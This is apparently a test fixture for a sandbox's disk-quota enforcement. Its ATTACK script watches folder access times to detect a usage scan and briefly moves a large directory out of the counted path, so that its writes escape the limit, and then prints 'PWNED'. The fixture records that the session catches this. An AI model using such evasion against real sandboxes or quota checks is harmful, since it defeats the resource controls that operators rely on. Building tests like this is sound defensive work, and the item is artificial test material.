"""Sees by an access time that its files are being counted, and moves what is not counted yet -> counted, the call is lost."""

QUESTIONS = {"1.2"}
SAYS = "its files took more than 256 MiB|took longer than"
STOPPED_BY = "session: the scratch folder is looked at"
ATTACK = """
import os, time
for number in range(12):
    os.mkdir(f"folder-{number}")
first, *between, last = [name for name in os.listdir(".") if name.startswith("folder-")]
for number in range(2500):
    os.close(os.open(f"{between[number % 10]}/{number}", os.O_CREAT | os.O_WRONLY))
os.mkdir(f"{last}/big")
def dodge(until):
    while time.monotonic() < until:
        if os.stat(first).st_atime != 1:
            os.rename(f"{last}/big", f"{first}/big")
            time.sleep(0.1)
            os.rename(f"{first}/big", f"{last}/big")
            os.utime(first, (1, 2))
os.utime(first, (1, 2))
data = bytes(5 << 20)
for number in range(6):
    with open(f"{last}/big/{number}", "ab", buffering=0) as file:
        for part in range(12):
            file.write(data)
            dodge(time.monotonic() + 0.02)
dodge(time.monotonic() + 0.5)
print("PWNED")
"""
